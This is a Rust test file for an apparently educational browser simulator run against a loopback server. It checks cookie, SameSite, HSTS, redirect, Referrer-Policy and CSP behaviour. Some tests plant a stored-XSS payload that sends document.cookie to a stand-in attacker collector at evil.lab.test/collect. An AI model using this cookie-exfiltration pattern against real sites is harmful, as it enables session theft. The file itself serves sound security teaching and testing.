//! The browser against a small axum server on 127.0.0.1: routing, Host header, cookies,
//! redirects, HSTS, forms and the script model. Nothing here leaves loopback.
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::extract::{RawQuery, State};
use axum::http::header::{CONTENT_SECURITY_POLICY, LOCATION, REFERRER_POLICY, SET_COOKIE};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{AppendHeaders, Html, IntoResponse};
use axum::routing::{get, post};
use sessionlab_browser::{
    Browser, BrowserError, CookieDecision, Network, RequestKind, RequestSpec, ScriptEffect,
    SetCookieOutcome, WithholdReason, exfiltration_payload,
};
use url::Url;

#[derive(Clone)]
struct Lab {
    port: u16,
    collected: Arc<Mutex<Vec<String>>>,
}

struct Server {
    port: u16,
    addr: SocketAddr,
    collected: Arc<Mutex<Vec<String>>>,
}

impl Server {
    /// `http://app.lab.test:<port><path>`
    fn app(&self, path: &str) -> Url {
        Url::parse(&format!("http://app.lab.test:{}{path}", self.port)).expect("lab URL")
    }

    /// A browser whose network routes app.lab.test and evil.lab.test (same port) to this server.
    fn browser(&self) -> Browser {
        let network = Network::new()
            .with_route("app.lab.test", self.port, self.addr)
            .with_route("evil.lab.test", self.port, self.addr);
        Browser::new("victim", network)
    }

    fn collected(&self) -> Vec<String> {
        self.collected.lock().expect("collector lock").clone()
    }
}

fn header(headers: &HeaderMap, name: &str) -> String {
    headers
        .get(name)
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
        .unwrap_or_default()
}

async fn start() -> Server {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind 127.0.0.1:0");
    let addr = listener.local_addr().expect("local address");
    let collected = Arc::new(Mutex::new(Vec::new()));
    let lab = Lab {
        port: addr.port(),
        collected: collected.clone(),
    };
    let app = Router::new()
        .route("/host", get(|headers: HeaderMap| async move { header(&headers, "host") }))
        .route("/echo", get(|headers: HeaderMap| async move { header(&headers, "cookie") }))
        .route(
            "/set",
            get(|| async {
                AppendHeaders([(SET_COOKIE, "sid=abc123; Path=/"), (SET_COOKIE, "secret=s3; HttpOnly; Path=/")])
            }),
        )
        .route(
            "/redirect",
            get(|| async { (StatusCode::FOUND, AppendHeaders([(LOCATION, "/echo"), (SET_COOKIE, "hop=1; Path=/")])) }),
        )
        .route("/loop", get(|| async { (StatusCode::FOUND, [(LOCATION, "/loop")]) }))
        .route("/referer", get(|headers: HeaderMap| async move { header(&headers, "referer") }))
        .route(
            "/away",
            get(|State(lab): State<Lab>| async move {
                let to = format!("http://evil.lab.test:{}/referer", lab.port);
                (StatusCode::FOUND, [(LOCATION, to)])
            }),
        )
        .route(
            "/away-quietly",
            get(|State(lab): State<Lab>| async move {
                let to = format!("http://evil.lab.test:{}/referer", lab.port);
                (StatusCode::FOUND, [(LOCATION, to), (REFERRER_POLICY, "no-referrer".to_string())])
            }),
        )
        .route(
            "/submit-before-form",
            get(|| async {
                Html(r#"<script>document.forms[0].submit()</script>
                    <form action="/login" method="post"><input name="username" value="x"></form>"#)
            }),
        )
        .route(
            "/submit-after-form",
            get(|| async {
                Html(r#"<form action="/login" method="post"><input name="username" value="x"></form>
                    <script>document.forms[0].submit()</script>"#)
            }),
        )
        .route(
            "/login-form",
            get(|| async {
                Html(r#"<form action="/login" method="post"><input type="hidden" name="csrf" value="tok">
                    <input name="username"><input type="password" name="password"></form>"#)
            }),
        )
        .route(
            "/login",
            post(|headers: HeaderMap, body: String| async move {
                format!(
                    "{body}\norigin={}\nsite={}\ntype={}",
                    header(&headers, "origin"),
                    header(&headers, "sec-fetch-site"),
                    header(&headers, "content-type")
                )
            }),
        )
        .route("/xss", get(|State(lab): State<Lab>| async move { Html(xss_page(lab.port)) }))
        .route(
            "/xss-csp",
            get(|State(lab): State<Lab>| async move {
                ([(CONTENT_SECURITY_POLICY, "script-src 'self'")], Html(xss_page(lab.port))).into_response()
            }),
        )
        .route(
            "/collect",
            get(|State(lab): State<Lab>, RawQuery(query): RawQuery| async move {
                lab.collected.lock().expect("collector lock").push(query.unwrap_or_default());
                "thanks"
            }),
        )
        .with_state(lab);
    tokio::spawn(async move { axum::serve(listener, app).await });
    Server {
        port: addr.port(),
        addr,
        collected,
    }
}

/// A guestbook page with the stored XSS payload, and a harmless script besides.
fn xss_page(port: u16) -> String {
    let payload = exfiltration_payload(&format!("http://evil.lab.test:{port}/collect?c="));
    format!(
        "<html><body><p>Nice site!</p>{payload}<script>console.log('hi')</script></body></html>"
    )
}

#[tokio::test]
async fn routes_lab_host_to_the_server_with_the_lab_host_header() {
    let server = start().await;
    let mut browser = server.browser();
    let page = browser
        .open(&server.app("/host"), None)
        .await
        .expect("page");
    assert_eq!(page.status, 200);
    assert_eq!(page.body, format!("app.lab.test:{}", server.port));
    assert_eq!(page.url, server.app("/host"));
    let exchange = browser.last_exchange().expect("an exchange");
    assert_eq!(
        exchange.request_header("host"),
        Some(format!("app.lab.test:{}", server.port).as_str())
    );
    // http://app.lab.test is not potentially trustworthy, although the lab routes it to
    // loopback: no Fetch Metadata (see `loopback_literals_get_fetch_metadata`).
    for name in ["sec-fetch-site", "sec-fetch-mode", "sec-fetch-dest"] {
        assert_eq!(exchange.request_header(name), None, "{name}");
    }
}

/// A loopback address written in the URL is potentially trustworthy (W3C Secure Contexts), so
/// Fetch Metadata goes to it even over plain http.
#[tokio::test]
async fn loopback_literals_get_fetch_metadata() {
    let server = start().await;
    let mut browser = server.browser();
    let loopback = Url::parse(&format!("http://127.0.0.1:{}/host", server.port)).expect("URL");
    let page = browser.open(&loopback, None).await.expect("page");
    assert_eq!(page.body, format!("127.0.0.1:{}", server.port));
    let exchange = browser.last_exchange().expect("an exchange");
    assert_eq!(exchange.request_header("sec-fetch-site"), Some("none"));
    assert_eq!(exchange.request_header("sec-fetch-mode"), Some("navigate"));
    assert_eq!(exchange.request_header("sec-fetch-dest"), Some("document"));
}

#[tokio::test]
async fn unknown_hosts_never_leave_the_browser() {
    let server = start().await;
    let mut browser = server.browser();
    let unrouted = Url::parse(&format!("http://other.lab.test:{}/", server.port)).expect("URL");
    let error = browser
        .open(&unrouted, None)
        .await
        .expect_err("unknown host");
    assert!(
        matches!(error, BrowserError::UnknownHost { ref host } if host == "other.lab.test"),
        "{error}"
    );
    assert!(browser.exchanges.is_empty());
}

#[tokio::test]
async fn closed_port_is_unreachable_with_a_reason() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let closed = listener.local_addr().expect("address");
    drop(listener);
    let mut browser = Browser::new(
        "victim",
        Network::new().with_route("app.lab.test", 4000, closed),
    );
    let error = browser
        .open(&Url::parse("http://app.lab.test:4000/").expect("URL"), None)
        .await
        .expect_err("closed");
    match error {
        BrowserError::Unreachable { url, reason } => {
            assert_eq!(url, "http://app.lab.test:4000/");
            assert!(reason.to_lowercase().contains("connect"), "{reason}");
        }
        other => panic!("expected Unreachable, got {other}"),
    }
}

#[tokio::test]
async fn set_cookie_is_stored_and_sent_back() {
    let server = start().await;
    let mut browser = server.browser();
    browser.open(&server.app("/set"), None).await.expect("set");
    let outcomes = &browser
        .last_exchange()
        .expect("exchange")
        .set_cookie_outcomes;
    assert_eq!(outcomes.len(), 2);
    assert!(
        outcomes
            .iter()
            .all(|outcome| matches!(outcome, SetCookieOutcome::Stored(_))),
        "{outcomes:?}"
    );
    assert_eq!(
        browser.jar.get("sid").map(|c| c.value.as_str()),
        Some("abc123")
    );

    let page = browser
        .open(&server.app("/echo"), None)
        .await
        .expect("echo");
    assert_eq!(page.body, "sid=abc123; secret=s3");
    let decisions = &browser.last_exchange().expect("exchange").cookie_decisions;
    assert_eq!(
        decisions
            .iter()
            .filter(|d| matches!(d, CookieDecision::Sent(_)))
            .count(),
        2
    );
}

#[tokio::test]
async fn cross_site_subresource_withholds_lax_cookies_and_says_why() {
    let server = start().await;
    let mut browser = server.browser();
    browser.open(&server.app("/set"), None).await.expect("set");
    let evil = Url::parse("http://evil.example/lure").expect("URL");
    let spec = RequestSpec {
        method: "GET".into(),
        url: server.app("/echo"),
        form: None,
        kind: RequestKind::Subresource,
        initiator: Some(evil),
        follow_redirects: false,
    };
    let page = browser.request(spec).await.expect("echo");
    assert_eq!(page.body, "");
    let exchange = browser.last_exchange().expect("exchange");
    assert_eq!(exchange.request_header("cookie"), None);
    // Plain http to a lab host: no Sec-Fetch-Site to say "cross-site".
    assert_eq!(exchange.request_header("sec-fetch-site"), None);
    assert!(exchange.cookie_decisions.iter().all(|decision| matches!(
        decision,
        CookieDecision::Withheld {
            reason: WithholdReason::SameSiteLaxCrossSite,
            ..
        }
    )));
}

#[tokio::test]
async fn redirects_are_followed_with_cookies_from_every_hop() {
    let server = start().await;
    let mut browser = server.browser();
    let page = browser
        .open(&server.app("/redirect"), None)
        .await
        .expect("page");
    assert_eq!(page.url, server.app("/echo"));
    assert_eq!(page.body, "hop=1");
    let statuses: Vec<u16> = browser.exchanges.iter().map(|e| e.status).collect();
    assert_eq!(statuses, [302, 200]);

    // Without following, the redirect itself is the page.
    let spec = RequestSpec {
        follow_redirects: false,
        ..RequestSpec::navigate(server.app("/redirect"), None)
    };
    let page = browser.request(spec).await.expect("page");
    assert_eq!(page.status, 302);
    assert_eq!(page.header("location"), Some("/echo"));
}

#[tokio::test]
async fn endless_redirects_stop() {
    let server = start().await;
    let mut browser = server.browser();
    let error = browser
        .open(&server.app("/loop"), None)
        .await
        .expect_err("loop");
    assert!(
        matches!(error, BrowserError::TooManyRedirects { .. }),
        "{error}"
    );
    assert_eq!(browser.exchanges.len(), 11);
}

#[tokio::test]
async fn hsts_upgrades_before_the_request_leaves() {
    let server = start().await;
    let mut browser = server.browser();
    let https = Url::parse(&format!("https://app.lab.test:{}/", server.port)).expect("URL");
    let now = browser.now();
    browser.hsts.observe(&https, "max-age=60", now);
    assert_eq!(
        browser
            .hsts
            .upgrade(&server.app("/host"), now)
            .map(String::from),
        Some(format!("{https}host"))
    );
    // The lab server here speaks plain http only, so the upgraded (TLS) request fails - at the
    // https URL, which proves nothing went out in clear text.
    let error = browser
        .open(&server.app("/host"), None)
        .await
        .expect_err("TLS to a plain server");
    match error {
        BrowserError::Unreachable { url, .. } => assert_eq!(url, format!("{https}host")),
        other => panic!("expected Unreachable, got {other}"),
    }
}

#[tokio::test]
async fn submit_form_keeps_hidden_fields_and_sends_origin() {
    let server = start().await;
    let mut browser = server.browser();
    let form_page = browser
        .open(&server.app("/login-form"), None)
        .await
        .expect("form");
    let page = browser
        .submit_form(
            &form_page,
            "/login",
            &[("username", "alice"), ("password", "wonder land")],
        )
        .await
        .expect("submitted");
    let origin = format!("http://app.lab.test:{}", server.port);
    // Origin goes with every POST; Sec-Fetch-Site not over plain http to a lab host.
    assert_eq!(
        page.body,
        format!(
            "csrf=tok&username=alice&password=wonder+land\norigin={origin}\nsite=\ntype=application/x-www-form-urlencoded"
        )
    );
    let exchange = browser.last_exchange().expect("exchange");
    assert_eq!(exchange.method, "POST");
    assert_eq!(
        exchange.request_header("referer"),
        Some(server.app("/login-form").as_str())
    );

    let missing = browser
        .submit_form(&form_page, "/nowhere", &[])
        .await
        .expect_err("no such form");
    assert!(matches!(missing, BrowserError::NoSuchForm(..)), "{missing}");
}

#[tokio::test]
async fn inline_script_exfiltrates_readable_cookies_without_csp() {
    let server = start().await;
    let mut browser = server.browser();
    browser.open(&server.app("/set"), None).await.expect("set");
    let page = browser
        .open(&server.app("/xss"), None)
        .await
        .expect("xss page");

    let collector = format!(
        "http://evil.lab.test:{}/collect?c=sid%3Dabc123",
        server.port
    );
    assert_eq!(page.scripts.len(), 2);
    assert_eq!(
        page.scripts[0],
        ScriptEffect::Exfiltrated {
            document_cookie: "sid=abc123".into(),
            request: Url::parse(&collector).expect("URL")
        }
    );
    assert!(
        matches!(&page.scripts[1], ScriptEffect::Ignored { excerpt } if excerpt.contains("console.log"))
    );
    // The HttpOnly cookie `secret` never reached the collector.
    assert_eq!(server.collected(), ["c=sid%3Dabc123"]);
    assert!(
        browser.script_errors.is_empty(),
        "{:?}",
        browser.script_errors
    );

    let fetch = browser.last_exchange().expect("the collector request");
    assert_eq!(fetch.url.as_str(), collector);
    // No Referrer-Policy on the page: the default (strict-origin-when-cross-origin) sends only
    // the origin to another origin.
    assert_eq!(
        fetch.request_header("referer"),
        Some(server.app("/").as_str())
    );
    // Plain http to a lab host: no Sec-Fetch-Site / -Mode (they go to trustworthy URLs only).
    assert_eq!(fetch.request_header("sec-fetch-site"), None);
    assert_eq!(fetch.request_header("sec-fetch-mode"), None);
    // A script's fetch(url) to another origin is a CORS request: it names its origin.
    assert_eq!(
        fetch.request_header("origin"),
        Some(server.app("/").origin().ascii_serialization().as_str())
    );
}

#[tokio::test]
async fn a_scripts_fetch_to_another_origin_carries_no_cookies() {
    let server = start().await;
    let mut browser = server.browser();
    // The collector's host has a cookie in this browser...
    let evil = Url::parse(&format!("http://evil.lab.test:{}/set", server.port)).expect("URL");
    browser.open(&evil, None).await.expect("set");
    browser
        .open(&server.app("/xss"), None)
        .await
        .expect("xss page");
    // ...but fetch() defaults to credentials "same-origin": it stays home.
    let fetch = browser.last_exchange().expect("the collector request");
    assert!(fetch.url.path().starts_with("/collect"), "{}", fetch.url);
    assert_eq!(fetch.request_header("cookie"), None);
    assert!(fetch.cookie_decisions.is_empty());
}

#[tokio::test]
async fn a_redirect_can_change_the_referrer_policy_of_the_next_hop() {
    let server = start().await;
    let page = server.app("/guestbook?sid=SECRET");
    // The page's default policy sends its origin to another origin...
    let mut browser = server.browser();
    let landed = browser
        .open(&server.app("/away"), Some(&page))
        .await
        .expect("redirected");
    assert_eq!(landed.body, server.app("/").as_str());
    // ...unless the redirect on the way says `Referrer-Policy: no-referrer`.
    let landed = browser
        .open(&server.app("/away-quietly"), Some(&page))
        .await
        .expect("redirected");
    assert_eq!(landed.url.path(), "/referer");
    assert_eq!(
        landed.body, "",
        "the redirect's policy applies to the next hop"
    );
}

#[tokio::test]
async fn a_script_sees_only_the_forms_before_it() {
    let server = start().await;
    let mut browser = server.browser();
    let page = browser
        .open(&server.app("/submit-before-form"), None)
        .await
        .expect("page");
    assert!(
        matches!(&page.scripts[..], [ScriptEffect::Ignored { .. }]),
        "{:?}",
        page.scripts
    );
    assert!(browser.exchanges.iter().all(|x| x.method == "GET"));
    assert!(
        browser.script_errors[0].contains("no form before the script"),
        "{:?}",
        browser.script_errors
    );
    let page = browser
        .open(&server.app("/submit-after-form"), None)
        .await
        .expect("page");
    assert!(
        matches!(
            &page.scripts[..],
            [ScriptEffect::SubmittedForm {
                status: Some(200),
                ..
            }]
        ),
        "{:?}",
        page.scripts
    );
}

#[tokio::test]
async fn csp_blocks_the_inline_script() {
    let server = start().await;
    let mut browser = server.browser();
    browser.open(&server.app("/set"), None).await.expect("set");
    let page = browser
        .open(&server.app("/xss-csp"), None)
        .await
        .expect("xss page");
    assert_eq!(page.scripts.len(), 2);
    assert!(page.scripts.iter().all(|effect| effect
        == &ScriptEffect::BlockedByCsp {
            policy: "script-src 'self'".into()
        }));
    tokio::time::sleep(Duration::from_millis(50)).await;
    assert!(server.collected().is_empty());
}

#[tokio::test]
async fn unreachable_collector_is_recorded_not_fatal() {
    let server = start().await;
    // Only app.lab.test is routed: the script's fetch to evil.lab.test fails.
    let mut browser = Browser::new(
        "victim",
        Network::new().with_route("app.lab.test", server.port, server.addr),
    );
    let page = browser
        .open(&server.app("/xss"), None)
        .await
        .expect("the page still loads");
    assert!(matches!(page.scripts[0], ScriptEffect::Exfiltrated { .. }));
    assert_eq!(browser.script_errors.len(), 1);
    assert!(
        browser.script_errors[0].contains("evil.lab.test"),
        "{:?}",
        browser.script_errors
    );
}
